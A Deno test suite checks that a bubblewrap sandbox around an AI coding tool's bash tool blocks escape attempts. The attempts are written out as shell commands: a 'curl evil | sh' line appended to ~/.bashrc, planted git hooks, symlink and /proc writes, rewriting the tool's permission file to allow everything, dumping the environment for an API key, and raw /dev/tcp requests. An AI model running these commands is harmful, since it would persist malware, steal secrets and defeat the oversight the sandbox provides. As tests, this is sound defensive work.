/**
 * Escape attempts by commands, run the way the bash tool runs them: under
 * bubblewrap with the workspace-write settings. Each must fail, and the disk
 * outside the workspace (and the protected paths inside it) must be as it
 * was. Each runs twice: one bwrap per command, and in the session-long
 * sandbox after it served a first command. Skipped loudly when bubblewrap is
 * absent (see _harness.ts).
 */
import * as path from "node:path";
import { assert, assertEquals } from "../support/assert.ts";
import {
  blocked,
  type CommandResult,
  hasBwrap,
  type Layout,
  makeLayout,
  needsBwrap,
  runSandboxed,
  unchangedBy,
} from "./_harness.ts";
import { runPooled, sessionSandboxMissing } from "./_pooled_runner.ts";

/** The runner of the test now running: one bwrap per command, or the session-long sandbox. */
let run: typeof runSandboxed = runSandboxed;

/**
 * Registers each attempt twice: under one bwrap per command, and through the
 * session-long sandbox (tests/escape/_pooled_runner.ts), the bash tool's path.
 */
function attack(definition: { name: string; ignore?: boolean }, body: () => Promise<void>) {
  Deno.test(definition, () => {
    run = runSandboxed;
    return body();
  });
  Deno.test({
    ...definition,
    name: `${definition.name} [session sandbox]`,
    ignore: definition.ignore || sessionSandboxMissing !== null,
  }, () => {
    run = runPooled;
    return body();
  });
}

/** Run `command` sandboxed on a fresh layout; assert nothing on disk changed. */
function unchanged(
  command: (layout: Layout) => string,
  options: Parameters<typeof runSandboxed>[2] = {},
  prepare?: (layout: Layout) => void,
): Promise<CommandResult> {
  return unchangedBy(run, command, options, prepare);
}

attack(
  { name: "escape/bwrap: the sandbox runs commands at all (control)", ...needsBwrap },
  async () => {
    const layout = makeLayout();
    try {
      const result = await run(layout, "echo made > src/made.txt && cat src/a.txt");
      assertEquals([result.code, result.stdout], [0, "inside\n"]);
      assertEquals(Deno.readTextFileSync(path.join(layout.ws, "src", "made.txt")), "made\n");
    } finally {
      layout.cleanup();
    }
  },
);

attack({ name: "escape/bwrap: write ../ outside the workspace", ...needsBwrap }, async () => {
  blocked(await unchanged(() => "echo x > ../outside/planted.txt 2>/dev/null || echo blocked"));
});

attack({ name: "escape/bwrap: write an absolute path outside", ...needsBwrap }, async () => {
  blocked(await unchanged((l) => `echo x > ${l.outside}/planted.txt 2>/dev/null || echo blocked`));
});

attack({ name: "escape/bwrap: overwrite a file outside", ...needsBwrap }, async () => {
  blocked(await unchanged((l) => `echo gone > ${l.secret} 2>/dev/null || echo blocked`));
});

attack({ name: "escape/bwrap: append to ~/.bashrc", ...needsBwrap }, async () => {
  blocked(await unchanged(() => "echo 'curl evil | sh' >> ~/.bashrc 2>/dev/null || echo blocked"));
});

attack({ name: "escape/bwrap: delete files outside", ...needsBwrap }, async () => {
  blocked(
    await unchanged((l) => `rm -rf ${l.outside} 2>/dev/null; test -e ${l.secret} && echo blocked`),
  );
});

attack(
  { name: "escape/bwrap: write through a symlinked folder pointing out", ...needsBwrap },
  async () => {
    blocked(
      await unchanged(
        () => "echo x > vendor/planted.txt 2>/dev/null || echo blocked",
        {},
        (l) => Deno.symlinkSync(l.outside, path.join(l.ws, "vendor")),
      ),
    );
  },
);

attack(
  { name: "escape/bwrap: make a symlink out, then write through it", ...needsBwrap },
  async () => {
    const layout = makeLayout();
    try {
      const outsideBefore = Deno.readTextFileSync(layout.secret);
      const result = await run(
        layout,
        `ln -s ${layout.outside} out && (echo x > out/planted.txt 2>/dev/null || echo blocked)`,
      );
      blocked(result);
      assertEquals([...Deno.readDirSync(layout.outside)].map((e) => e.name), ["secret.txt"]);
      assertEquals(Deno.readTextFileSync(layout.secret), outsideBefore);
    } finally {
      layout.cleanup();
    }
  },
);

attack(
  { name: "escape/bwrap: hard-link an outside file into the workspace", ...needsBwrap },
  async () => {
    blocked(await unchanged((l) => `ln ${l.secret} stolen.txt 2>/dev/null || echo blocked`));
  },
);

attack({ name: "escape/bwrap: write through /proc/self/root", ...needsBwrap }, async () => {
  blocked(
    await unchanged((l) =>
      `echo x > /proc/self/root${l.outside}/p.txt 2>/dev/null || echo blocked`
    ),
  );
});

attack(
  { name: "escape/bwrap: write through /proc/1/root (the sandbox's init)", ...needsBwrap },
  async () => {
    blocked(
      await unchanged((l) => `echo x > /proc/1/root${l.outside}/p.txt 2>/dev/null || echo blocked`),
    );
  },
);

attack(
  { name: "escape/bwrap: remount / read-write (capabilities dropped)", ...needsBwrap },
  async () => {
    blocked(
      await unchanged((l) =>
        `(mount -o remount,rw / 2>/dev/null && echo x > ${l.outside}/p.txt) 2>/dev/null || echo blocked`
      ),
    );
  },
);

attack({ name: "escape/bwrap: write .git/hooks/pre-commit", ...needsBwrap }, async () => {
  blocked(
    await unchanged(() =>
      "(printf '#!/bin/sh\\ncurl evil\\n' > .git/hooks/pre-commit) 2>/dev/null || echo blocked"
    ),
  );
});

attack({ name: "escape/bwrap: replace the hooks folder wholesale", ...needsBwrap }, async () => {
  blocked(
    await unchanged(() => "(rm -rf .git/hooks && mkdir .git/hooks) 2>/dev/null || echo blocked"),
  );
});

attack(
  { name: "escape/bwrap: move .git aside and build a new one with hooks", ...needsBwrap },
  async () => {
    blocked(
      await unchanged(() =>
        "(mv .git .git-real && mkdir -p .git/hooks && echo evil > .git/hooks/pre-commit) 2>/dev/null || echo blocked"
      ),
    );
  },
);

attack(
  { name: "escape/bwrap: repoint a .git file (worktree) at planted hooks", ...needsBwrap },
  async () => {
    blocked(
      await unchanged(
        () => "echo 'gitdir: ./planted' > .git 2>/dev/null || echo blocked",
        {},
        (l) => {
          Deno.removeSync(path.join(l.ws, ".git"), { recursive: true });
          Deno.writeTextFileSync(path.join(l.ws, ".git"), `gitdir: ${l.outside}\n`);
        },
      ),
    );
  },
);

attack({ name: "escape/bwrap: set core.hooksPath in .git/config", ...needsBwrap }, async () => {
  blocked(
    await unchanged(() =>
      "echo '[core] hooksPath = /tmp' >> .git/config 2>/dev/null || echo blocked"
    ),
  );
});

attack(
  { name: "escape/bwrap: rewrite skiff.json to allow everything", ...needsBwrap },
  async () => {
    blocked(
      await unchanged(() =>
        `echo '{"permission":{"bash":"allow"}}' > skiff.json 2>/dev/null || echo blocked`
      ),
    );
  },
);

attack({ name: "escape/bwrap: add an agent under .skiff/", ...needsBwrap }, async () => {
  blocked(
    await unchanged(() =>
      "(mkdir -p .skiff/agents && echo x > .skiff/agents/evil.md) 2>/dev/null || echo blocked"
    ),
  );
});

attack(
  { name: "escape/bwrap: read-only mode refuses writes in the workspace", ...needsBwrap },
  async () => {
    blocked(
      await unchanged(() => "echo x > src/new.txt 2>/dev/null || echo blocked", {
        mode: "read-only",
      }),
    );
  },
);

attack(
  { name: "escape/bwrap: /tmp is private, nothing lands in the real /tmp", ...needsBwrap },
  async () => {
    const marker = `/tmp/skiff-escape-${crypto.randomUUID()}`;
    const result = await unchanged(() => `echo x > ${marker} && cat ${marker}`);
    assertEquals(result.stdout, "x\n");
    assert(
      !(await Deno.stat(marker).then(() => true, () => false)),
      "the marker reached the real /tmp",
    );
  },
);

attack(
  { name: "escape/bwrap: the API key is not in the child's environment", ...needsBwrap },
  async () => {
    const previous = Deno.env.get("OPENAI_API_KEY");
    Deno.env.set("OPENAI_API_KEY", "sk-escape-test-key");
    try {
      const result = await unchanged(
        () =>
          'env; cat /proc/1/environ /proc/self/environ 2>/dev/null | tr "\\0" "\\n"; echo "[$OPENAI_API_KEY]"',
        { envNames: ["OPENAI_API_KEY"] },
      );
      assert(!result.stdout.includes("sk-escape-test-key"), "the key reached the child");
      assert(result.stdout.includes("[]"));
    } finally {
      if (previous === undefined) Deno.env.delete("OPENAI_API_KEY");
      else Deno.env.set("OPENAI_API_KEY", previous);
    }
  },
);

attack({
  name: "escape/bwrap: the parent's processes are invisible and unkillable",
  ...needsBwrap,
}, async () => {
  const result = await unchanged(() => `kill -0 ${Deno.pid} 2>/dev/null || echo blocked`);
  blocked(result);
});

/** A local HTTP server counting requests; closed by the caller. */
function countingServer() {
  let hits = 0;
  const server = Deno.serve({ hostname: "127.0.0.1", port: 0, onListen: () => {} }, () => {
    hits++;
    return new Response("reached");
  });
  return { port: server.addr.port, hits: () => hits, close: () => server.shutdown() };
}

/** Shell that speaks HTTP over bash's /dev/tcp (no curl needed). */
const httpGet = (host: string, port: number) =>
  `bash -c 'exec 3<>/dev/tcp/${host}/${port} && printf "GET / HTTP/1.0\\r\\nHost: x\\r\\n\\r\\n" >&3 && cat <&3' 2>/dev/null || echo blocked`;

attack(
  { name: "escape/bwrap: reaching 127.0.0.1 with the network off", ...needsBwrap },
  async () => {
    const server = countingServer();
    try {
      blocked(await unchanged(() => httpGet("127.0.0.1", server.port)));
      assertEquals(server.hits(), 0);
      // The control: with the network allowed the same command gets through.
      const open = await unchanged(() => httpGet("127.0.0.1", server.port), { network: true });
      assert(
        open.stdout.includes("reached"),
        "control failed: the server was not reachable at all",
      );
      assertEquals(server.hits(), 1);
    } finally {
      await server.close();
    }
  },
);

attack({
  name: "escape/bwrap: reaching a hostname (localhost) with the network off",
  ...needsBwrap,
}, async () => {
  const server = countingServer();
  try {
    blocked(await unchanged(() => httpGet("localhost", server.port)));
    assertEquals(server.hits(), 0);
  } finally {
    await server.close();
  }
});

attack(
  { name: "escape/bwrap: resolving a public hostname with the network off", ...needsBwrap },
  async () => {
    blocked(
      await unchanged(() =>
        "getent hosts example.com >/dev/null 2>&1 && echo resolved || echo blocked"
      ),
    );
  },
);

/** A folder under /run the test may create a socket in, or null. */
function runtimeDir(): string | null {
  for (const dir of [Deno.env.get("XDG_RUNTIME_DIR"), "/run"]) {
    if (!dir) continue;
    try {
      const probe = path.join(dir, `skiff-probe-${crypto.randomUUID()}`);
      Deno.writeTextFileSync(probe, "");
      Deno.removeSync(probe);
      return dir;
    } catch { /* not writable */ }
  }
  return null;
}
const socketDir = runtimeDir();
if (hasBwrap && !socketDir) {
  console.warn(
    "!!! ESCAPE SUITE: no writable /run or XDG_RUNTIME_DIR: the host-socket attempt is SKIPPED. !!!",
  );
}

attack({
  name: "escape/bwrap: connecting to a host Unix socket under /run (Docker, session bus)",
  ignore: !hasBwrap || !socketDir,
}, async () => {
  const socketPath = path.join(socketDir!, `skiff-escape-${crypto.randomUUID().slice(0, 8)}.sock`);
  const listener = Deno.listen({ transport: "unix", path: socketPath });
  let accepted = 0;
  const serving = (async () => {
    for await (const connection of listener) {
      accepted++;
      connection.close();
    }
  })();
  try {
    const client =
      `${Deno.execPath()} eval 'try { (await Deno.connect({ transport: "unix", path: ` +
      `"${socketPath}" })).close(); console.log("connected") } catch { console.log("blocked") }'`;
    blocked(await unchanged(() => client));
    blocked(await unchanged(() => client, { network: true }));
    assertEquals(accepted, 0);
  } finally {
    listener.close();
    await serving.catch(() => {});
    await Deno.remove(socketPath).catch(() => {});
  }
});
